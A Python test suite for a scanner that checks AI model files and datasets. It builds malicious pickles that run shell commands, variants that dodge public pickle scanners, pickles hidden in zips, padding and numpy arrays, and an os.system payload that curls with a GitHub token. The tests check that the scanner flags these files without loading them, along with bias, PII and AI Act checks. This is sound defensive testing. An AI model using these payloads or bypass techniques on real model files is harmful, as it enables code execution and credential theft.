"""The AI model scanner end to end: generated model files, hostile pickles that must never run, datasets
with and without bias, bad input, and no planted value in any output."""

from __future__ import annotations

import json
import logging
import pickle
import zipfile
from pathlib import Path
from typing import Any

import pytest

from services.scanners import get_scanner
from services.scanners.base import no_progress
from tests.planted import PLANTED
from tests.scanners import ai_model_fixtures as fx
from utils.errors import InvalidRequestError, ScanCancelledError


def scan(path: Path, **request: Any) -> dict[str, Any]:
    """Run the registered ai_model scanner in-process."""
    return get_scanner("ai_model").scan({"path": str(path), **request}, no_progress)


def model(result: dict[str, Any], name: str) -> dict[str, Any]:
    """The result's entry for the model file called `name`."""
    return next(m for m in result["ai_model"]["models"] if m["path"].endswith(name))


def types_at(result: dict[str, Any], name: str) -> set[str]:
    """Finding types whose location's path ends with `name`."""
    return {f["type"] for f in result["findings"] if str(f["location"].get("path", "")).endswith(name)}


def assert_no_planted(*outputs: str) -> None:
    """No planted raw value in any output."""
    for output in outputs:
        for value in PLANTED:
            assert value not in output, f"raw planted value leaked: {value[:3]}…"


@pytest.fixture
def marker(tmp_path: Path) -> Path:
    """The file a malicious pickle would create if it were ever loaded (outside the scan root)."""
    return tmp_path / "PWNED"


def test_planted_model_files_are_found_and_their_clean_twins_are_clean(scan_root: Path, marker: Path) -> None:
    models = scan_root / "models"
    models.mkdir()
    (models / "evil.pkl").write_bytes(pickle.dumps(fx.WritesMarker(marker)))
    (models / "clean.pkl").write_bytes(pickle.dumps({"weights": [0.1, 0.2], "bias": 0.3}))
    (models / "evil.pt").write_bytes(fx.pytorch_zip(pickle.dumps(fx.RunsShell(marker))))
    (models / "clean.pt").write_bytes(fx.pytorch_zip(fx.torch_state_dict()))
    (models / "evil.joblib").write_bytes(pickle.dumps(fx.RunsShell(marker), protocol=4))
    (models / "evil.ckpt").write_bytes(pickle.dumps(fx.WritesMarker(marker), protocol=2))
    fx.write_keras_archive(models / "lambda.keras", with_lambda=True)
    fx.write_keras_archive(models / "plain.keras", with_lambda=False)
    fx.write_h5(models / "lambda.h5", with_lambda=True)
    fx.write_h5(models / "plain.h5", with_lambda=False)
    (models / "lambda_config.json").write_text(json.dumps(fx.keras_config(with_lambda=True)))
    fx.write_onnx(models / "scoring.onnx", ["applicant_age", "gender", "postcode", "income"])
    fx.write_onnx(models / "plain.onnx", ["x"])
    fx.write_safetensors(models / "weights.safetensors")
    result = scan(models)

    assert not marker.exists(), "a pickle ran during the scan"
    for name in ("evil.pkl", "evil.pt", "evil.joblib", "evil.ckpt"):
        assert model(result, name)["verdict"] == "unsafe", name
        assert "ai.unsafe_model_file" in types_at(result, name), name
    for name in ("clean.pkl", "clean.pt", "plain.keras", "plain.h5", "plain.onnx", "weights.safetensors"):
        assert model(result, name)["verdict"] == "safe", name
        assert not types_at(result, name) - {"ai.sensitive_input"}, name
    assert model(result, "clean.pt")["framework"] == "torch"
    for name in ("lambda.keras", "lambda.h5", "lambda_config.json"):
        assert model(result, name)["lambda_layers"] == ["sneaky"], name
        assert "ai.keras_lambda" in types_at(result, name), name
    onnx = model(result, "scoring.onnx")
    assert onnx["inputs"] == ["applicant_age", "gender", "postcode", "income"] and onnx["outputs"] == [
        "score"
    ]
    sensitive = {
        f["location"]["input"]: f
        for f in result["findings"]
        if f["type"] == "ai.sensitive_input" and f["location"]["path"].endswith("scoring.onnx")
    }
    assert set(sensitive) == {"applicant_age", "gender", "postcode"}
    assert "ai.sensitive_input" not in types_at(result, "plain.onnx")
    tensors = model(result, "weights.safetensors")
    assert tensors["framework"] == "pytorch" and tensors["details"]["parameters"] == 9
    assert result["ai_model"]["file_safety"] == "unsafe"
    assert "ai.model_card_missing" in {f["type"] for f in result["findings"]}


@pytest.mark.parametrize("name", sorted(fx.bypass_pickles(Path("/x"))))
def test_each_public_pickle_scanner_bypass_is_caught_and_never_runs(
    scan_root: Path, marker: Path, name: str
) -> None:
    (scan_root / "model.pkl").write_bytes(fx.bypass_pickles(marker)[name])
    result = scan(scan_root / "model.pkl")
    assert not marker.exists()
    assert model(result, "model.pkl")["verdict"] == "unsafe", model(result, "model.pkl")
    assert result["status"] == "completed"


def test_pickles_hidden_in_zips_and_odd_names_are_found(scan_root: Path, marker: Path) -> None:
    evil = pickle.dumps(fx.RunsShell(marker), protocol=0)  # a text pickle: no PROTO header to sniff
    (scan_root / "odd_member.pt").write_bytes(fx.pytorch_zip(evil, member="archive/weights.tmp"))
    (scan_root / "bad_crc.pth").write_bytes(
        fx.with_bad_crc(fx.pytorch_zip(pickle.dumps(fx.WritesMarker(marker))), "archive/data.pkl")
    )
    (scan_root / "prefixed.pt").write_bytes(
        b"JUNK" * 64 + fx.pytorch_zip(pickle.dumps(fx.WritesMarker(marker)))
    )
    (scan_root / "pytorch_model.bin").write_bytes(pickle.dumps(fx.RunsShell(marker)))
    (scan_root / "no_suffix_zip.data").write_bytes(
        fx.pytorch_zip(pickle.dumps(fx.WritesMarker(marker)), member="m/.hidden")
    )
    result = scan(scan_root)
    assert not marker.exists()
    for name in ("odd_member.pt", "bad_crc.pth", "prefixed.pt", "pytorch_model.bin", "no_suffix_zip.data"):
        assert model(result, name)["verdict"] == "unsafe", (name, model(result, name))


def test_a_global_outside_the_allow_list_is_flagged_for_review_even_when_both_libraries_pass_it(
    scan_root: Path,
) -> None:
    (scan_root / "model.pkl").write_bytes(fx.call("collections", "Counter", "abc"))
    entry = model(scan(scan_root / "model.pkl"), "model.pkl")
    assert entry["verdict"] == "review" and entry["pickles"][0]["outside_allow_list"] == [
        "collections.Counter"
    ]


def test_bad_model_files_each_get_a_clear_outcome(scan_root: Path, marker: Path) -> None:
    (scan_root / "empty.pt").write_bytes(b"")
    whole = fx.pytorch_zip(pickle.dumps(fx.WritesMarker(marker)))
    (scan_root / "truncated.pt").write_bytes(whole[: len(whole) // 2])
    (scan_root / "future.pkl").write_bytes(b"\x80\x09" + pickle.dumps({"a": 1}, protocol=2)[2:])
    with (scan_root / "huge.pkl").open("wb") as handle:
        handle.truncate(600 * 1024 * 1024)  # sparse: past the 512 MiB cap without writing it
    (scan_root / "fine.pkl").write_bytes(pickle.dumps([1, 2, 3]))
    result = scan(scan_root)
    assert not marker.exists()
    assert result["status"] == "degraded"
    errors = {e["path"].split("/")[-1]: e for e in result["errors"]}
    assert errors["empty.pt"]["kind"] == "empty"
    assert errors["truncated.pt"]["kind"] == "corrupt" and "zip" in errors["truncated.pt"]["message"]
    assert "protocol 9" in errors["future.pkl"]["message"]
    assert errors["huge.pkl"]["kind"] == "too_large"
    for name in ("empty.pt", "truncated.pt", "future.pkl", "huge.pkl"):
        assert model(result, name)["verdict"] == "unverifiable"
        assert "ai.model_unverifiable" in types_at(result, name)
    assert model(result, "fine.pkl")["verdict"] == "safe"


def test_the_size_cap_is_an_option_that_can_only_be_lowered(scan_root: Path) -> None:
    (scan_root / "m.pkl").write_bytes(pickle.dumps(list(range(1000))))
    result = scan(scan_root / "m.pkl", options={"max_file_bytes": 100})
    assert result["status"] == "failed" and result["errors"][0]["kind"] == "too_large"
    with pytest.raises(InvalidRequestError, match="max_file_bytes"):
        scan(scan_root / "m.pkl", options={"max_file_bytes": 10**12})


def test_an_onnx_model_with_external_data_is_read_without_opening_it(scan_root: Path, tmp_path: Path) -> None:
    secret = tmp_path / "outside.bin"
    secret.write_bytes(b"\x00" * 4)
    fx.write_onnx(scan_root / "ext.onnx", ["x"], external="../../outside.bin")
    result = scan(scan_root / "ext.onnx")
    entry = model(result, "ext.onnx")
    assert entry["verdict"] == "safe" and entry["external_data"] == ["../../outside.bin"]
    assert "ai.onnx_external_data" in types_at(result, "ext.onnx")


def test_biased_and_unbiased_datasets(scan_root: Path, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    (scan_root / "m.pkl").write_bytes(pickle.dumps([1]))
    fx.write_hiring_csv(scan_root / "biased.csv", biased=True)
    fx.write_hiring_csv(scan_root / "fair.csv", biased=False)
    options = {"protected_attribute": "gender", "label_column": "hired", "prediction_column": "predicted"}
    biased = scan(scan_root / "m.pkl", dataset=str(scan_root / "biased.csv"), options=options)
    fair = scan(scan_root / "m.pkl", dataset=str(scan_root / "fair.csv"), options=options)

    table = biased["ai_model"]["dataset"]["fairness"]
    parity = next(m for m in table["metrics"] if m["metric"] == "demographic_parity_difference")
    assert (
        parity["biased"] and parity["difference"] > 0.2 and 0 < parity["interval"][0] < parity["difference"]
    )
    assert parity["group_sizes"] == {"m": 200, "f": 200}
    assert {m["metric"] for m in table["metrics"]} == {
        "demographic_parity_difference",
        "equal_opportunity_difference",
    }
    assert [f["location"]["metric"] for f in biased["findings"] if f["type"] == "ai.dataset_bias"] == [
        "demographic_parity_difference"
    ]
    assert not [f for f in fair["findings"] if f["type"] == "ai.dataset_bias"]
    assert not any(m["biased"] for m in fair["ai_model"]["dataset"]["fairness"]["metrics"])
    # personal data in the training data, by column, and the protected attribute named as such
    assert "email" in biased["ai_model"]["dataset"]["personal_data_columns"]
    assert any(f["type"] == "pii.email" for f in biased["findings"])
    assert any(
        f["type"] == "ai.sensitive_input" and f["location"].get("column") == "gender"
        for f in biased["findings"]
    )
    assert_no_planted(json.dumps(biased), json.dumps(fair), caplog.text)


def test_a_parquet_dataset_is_read_too(scan_root: Path) -> None:
    import pandas as pd

    fx.write_hiring_csv(scan_root / "t.csv", biased=True)
    pd.read_csv(scan_root / "t.csv").to_parquet(scan_root / "t.parquet")
    (scan_root / "m.pkl").write_bytes(pickle.dumps([1]))
    result = scan(
        scan_root / "m.pkl",
        dataset=str(scan_root / "t.parquet"),
        options={"protected_attribute": "gender", "label_column": "hired"},
    )
    assert result["ai_model"]["dataset"]["rows"] == 400
    assert any(f["type"] == "ai.dataset_bias" for f in result["findings"])
    assert any(f["type"] == "pii.email" and f["location"]["path"] == "t.parquet" for f in result["findings"])


def test_dataset_request_errors_are_named(scan_root: Path) -> None:
    (scan_root / "m.pkl").write_bytes(pickle.dumps([1]))
    fx.write_hiring_csv(scan_root / "d.csv", biased=False)
    dataset = str(scan_root / "d.csv")
    cases: dict[str, dict[str, Any]] = {
        "no column 'sex'": {
            "dataset": dataset,
            "options": {"protected_attribute": "sex", "label_column": "hired"},
        },
        "needs a label or prediction": {"dataset": dataset, "options": {"protected_attribute": "gender"}},
        "needs a protected_attribute": {"dataset": dataset, "options": {"label_column": "hired"}},
        "no dataset is given": {"options": {"protected_attribute": "gender", "label_column": "hired"}},
        "1 to 200 printable": {
            "dataset": dataset,
            "options": {"protected_attribute": "g" * 201, "label_column": "hired"},
        },
        "must be a .csv or .parquet": {"dataset": str(scan_root / "m.pkl")},
        "unknown question": {"answers": {"nope": True}},
        "expects true or false": {"answers": {"profiling": "yes"}},
    }
    for message, request in cases.items():
        with pytest.raises(InvalidRequestError, match=message):
            scan(scan_root / "m.pkl", **request)


def test_an_unreadable_dataset_is_an_error_not_a_pass(scan_root: Path) -> None:
    (scan_root / "m.pkl").write_bytes(pickle.dumps([1]))
    (scan_root / "d.parquet").write_bytes(b"PAR1 not really")
    result = scan(scan_root / "m.pkl", dataset=str(scan_root / "d.parquet"))
    assert result["status"] == "degraded" and result["ai_model"]["dataset"]["read"] is False
    fx.write_hiring_csv(scan_root / "big.csv", biased=False)
    capped = scan(scan_root / "m.pkl", dataset=str(scan_root / "big.csv"), options={"max_file_bytes": 1000})
    assert capped["errors"][0]["kind"] == "too_large" and capped["ai_model"]["dataset"]["read"] is False


def test_the_ai_act_class_and_its_obligations_are_in_the_result(scan_root: Path) -> None:
    (scan_root / "m.pkl").write_bytes(pickle.dumps([1]))
    answers = {"role": "provider", "annex_iii": ["recruitment"], "interacts_with_people": True}
    act = scan(scan_root / "m.pkl", answers=answers)["ai_model"]["ai_act"]
    assert act["risk_class"] == "high_risk" and act["decided_by"]["annex"] == "Annex III 4(a)"
    articles = {o["article"]: o for o in act["obligations"]}
    assert {"Art. 9", "Art. 10", "Art. 11", "Art. 43", "Art. 50(1)", "Art. 4"} <= set(articles)
    assert "Art. 26" not in articles  # a provider's list: the deployer's duties are not its own
    assert (
        articles["Art. 9"]["applies_from"] == "2026-08-02"
        and articles["Art. 4"]["applies_from"] == "2025-02-02"
    )
    assert act["transparency_duties"] == ["Art. 50(1)"]
    unanswered = scan(scan_root / "m.pkl")["ai_model"]["ai_act"]
    assert unanswered["assessed"] is False and unanswered["risk_class"] is None


def test_model_card_completeness_against_the_checklist(scan_root: Path) -> None:
    (scan_root / "m.pkl").write_bytes(pickle.dumps([1]))
    (scan_root / "README.md").write_text(
        "---\nlicense: mit\n---\n# Model details\n## Intended use\n"
        "## Training data\n## Evaluation\n## Metrics\n",
        encoding="utf-8",
    )
    card = scan(scan_root)["ai_model"]["model_card"]
    assert card["file"] == "README.md"
    assert set(card["covered"]) == {
        "model_details",
        "intended_use",
        "training_data",
        "evaluation",
        "metrics",
        "license",
    }
    assert set(card["missing"]) == {
        "out_of_scope_use",
        "bias_risks_limitations",
        "human_oversight",
        "contact",
    }


def test_progress_is_reported_and_cancellation_propagates(scan_root: Path) -> None:
    for index in range(3):
        (scan_root / f"m{index}.pkl").write_bytes(pickle.dumps([index]))
    calls: list[str] = []

    def cancel(percent: float, message: str) -> None:
        calls.append(message)
        if len(calls) == 2:
            raise ScanCancelledError("cancelled")

    with pytest.raises(ScanCancelledError):
        get_scanner("ai_model").scan({"path": str(scan_root)}, cancel)
    assert calls[0] == "listing model files"


def test_a_path_outside_the_scan_roots_is_refused(scan_root: Path, tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere.pkl"
    outside.write_bytes(pickle.dumps([1]))
    with pytest.raises(InvalidRequestError):
        scan(outside)
    (scan_root / "m.pkl").write_bytes(pickle.dumps([1]))
    with pytest.raises(InvalidRequestError):
        scan(scan_root / "m.pkl", dataset=str(tmp_path / "elsewhere.csv"))


def test_a_zip_is_bounded_by_the_member_cap(scan_root: Path) -> None:
    with zipfile.ZipFile(scan_root / "big.pt", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive/data.pkl", pickle.dumps(b"\x00" * 200_000))
    result = scan(scan_root / "big.pt", options={"max_file_bytes": 10_000})
    assert model(result, "big.pt")["verdict"] == "unverifiable"


def test_a_long_pickle_skips_fickling_but_a_call_hidden_after_padding_is_still_caught(
    scan_root: Path, marker: Path
) -> None:
    padding = pickle.dumps(list(range(30_000)), protocol=2)  # one stream, past fickling's opcode limit
    (scan_root / "long.pkl").write_bytes(padding + pickle.dumps(fx.RunsShell(marker), protocol=2))
    (scan_root / "long_clean.pkl").write_bytes(padding)
    result = scan(scan_root)
    hidden, clean = model(result, "long.pkl"), model(result, "long_clean.pkl")
    assert hidden["verdict"] == "unsafe" and clean["verdict"] == "safe"
    assert clean["pickles"][0]["analysers"]["fickling"].startswith("skipped")
    assert not marker.exists()


def test_a_path_without_model_files_is_not_an_empty_pass(scan_root: Path) -> None:
    (scan_root / "notes.txt").write_text("nothing here", encoding="utf-8")
    result = scan(scan_root)
    assert result["status"] == "failed" and result["errors"][0]["kind"] == "no_models"
    classified = scan(scan_root, answers={"interacts_with_people": True})
    assert (
        classified["status"] == "degraded"
        and classified["ai_model"]["ai_act"]["risk_class"] == "transparency"
    )


def test_values_carried_in_a_pickle_never_reach_the_result_or_the_logs(
    scan_root: Path, marker: Path, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    caplog.set_level(logging.DEBUG)
    from tests.planted import BSN, EMAIL, GH_TOKEN

    # fickling quotes a short call's arguments in its messages (a long one it elides)
    (scan_root / "exfil.pkl").write_bytes(fx.call("builtins", "open", BSN, "w"))
    (scan_root / "mail.pkl").write_bytes(fx.call("smtplib", "SMTP", EMAIL))
    payload = fx.call("os", "system", f"curl -H 'Authorization: token {GH_TOKEN}' x; touch {marker}")
    (scan_root / "broken.pkl").write_bytes(payload[:-3])  # fickling complains about a truncated one
    result = scan(scan_root)
    assert model(result, "exfil.pkl")["verdict"] == "unsafe" and not marker.exists()
    out, err = capfd.readouterr()
    assert_no_planted(json.dumps(result), caplog.text, out, err)


def test_numpy_object_arrays_are_pickles_and_numeric_arrays_are_not(scan_root: Path, marker: Path) -> None:
    import numpy as np

    evil = np.array([fx.RunsShell(marker)], dtype=object)
    np.save(scan_root / "evil.npy", evil, allow_pickle=True)
    np.save(scan_root / "plain.npy", np.arange(6.0))
    np.savez(scan_root / "evil.npz", weights=np.ones(3), extra=evil)
    np.savez(scan_root / "plain.npz", weights=np.ones(3))
    result = scan(scan_root)
    assert not marker.exists()
    for name, verdict in (
        ("evil.npy", "unsafe"),
        ("evil.npz", "unsafe"),
        ("plain.npy", "safe"),
        ("plain.npz", "safe"),
    ):
        assert model(result, name)["verdict"] == verdict, name
